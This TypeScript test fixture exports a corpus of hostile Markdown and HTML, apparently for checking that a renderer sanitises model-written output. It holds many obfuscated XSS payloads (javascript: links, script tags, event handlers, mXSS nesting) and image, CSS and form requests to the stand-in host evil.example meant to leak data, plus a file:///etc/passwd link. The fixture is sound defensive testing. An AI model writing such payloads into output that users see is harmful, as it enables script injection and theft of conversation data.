/** Markdown that a model may be made to write. Whatever it tries ends at evil.example or calls `hostileScriptRan`. */
export const CORPUS = `
[a](javascript:hostileScriptRan()) [b](JaVaScRiPt:hostileScriptRan()) [c](&#106;avascript:hostileScriptRan()) [d](java
script:hostileScriptRan()) [e](  javascript:hostileScriptRan()) [f](vbscript:hostileScriptRan()) [g](data:text/html;base64,PHNjcmlwdD4=)
[h](\\javascript:hostileScriptRan()) [i](javascript&colon;hostileScriptRan()) <javascript:hostileScriptRan()> [j](file:///etc/passwd)
[k](//evil.example/x) [l](/api/conversations) [m][js] [n](<javascript:hostileScriptRan()>) [o](blob:https://evil.example/x)

[js]: javascript:hostileScriptRan()
[img]: https://evil.example/reference.png

![exfiltrate](https://evil.example/image.png?secret=1) ![reference][img] ![img] ![data](data:image/svg+xml;base64,PHN2Zz4=)
[![linked](https://evil.example/linked.png)](https://evil.example/) ![a](//evil.example/relative.png) ![b](/favicon.ico?leak)

<script>hostileScriptRan()</script>
<script src="https://evil.example/script.js"></script>
<img src="https://evil.example/html.png" onerror="hostileScriptRan()"> <img src=x onerror=hostileScriptRan()>
<svg onload="hostileScriptRan()"><image href="https://evil.example/svg.png"/></svg>
<iframe src="https://evil.example/frame"></iframe> <iframe srcdoc="<script>parent.hostileScriptRan()</script>"></iframe>
<object data="https://evil.example/object"></object> <embed src="https://evil.example/embed">
<video src="https://evil.example/video.mp4" poster="https://evil.example/poster.png" autoplay></video> <audio src="https://evil.example/audio.mp3" autoplay></audio>
<link rel="stylesheet" href="https://evil.example/style.css"> <style>@import url(https://evil.example/import.css); * { background: url(https://evil.example/background.png) }</style>
<div style="background: url(https://evil.example/inline.png)" onclick="hostileScriptRan()">styled</div>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"> <base href="https://evil.example/">
<form action="https://evil.example/form"><input name=a autofocus onfocus="hostileScriptRan()"><button formaction="javascript:hostileScriptRan()">go</button></form>
<a href="javascript:hostileScriptRan()">html link</a> <details open ontoggle="hostileScriptRan()">d</details>
<math><mtext><table><mglyph><style><img src=x onerror=hostileScriptRan()></style></mglyph></table></mtext></math>

\`\`\`"><img src=x onerror=hostileScriptRan()>
code <script>hostileScriptRan()</script>
\`\`\`

| <img src=x onerror=hostileScriptRan()> | [t](javascript:hostileScriptRan()) |
|---|---|
| ![t](https://evil.example/table.png) | <script>hostileScriptRan()</script> |

# <img src=x onerror=hostileScriptRan()> [h](javascript:hostileScriptRan())

- [ ] <script>hostileScriptRan()</script> ![task](https://evil.example/task.png)

[title](https://example.org "\\"><img src=x onerror=hostileScriptRan()>") <https://evil.example/auto> https://evil.example/bare

${"> ".repeat(60)}deep

${"[".repeat(200)}x${"]".repeat(200)}(javascript:hostileScriptRan())

&lt;script&gt;hostileScriptRan()&lt;/script&gt; &#60;img src=x onerror=hostileScriptRan()&#62;
`;
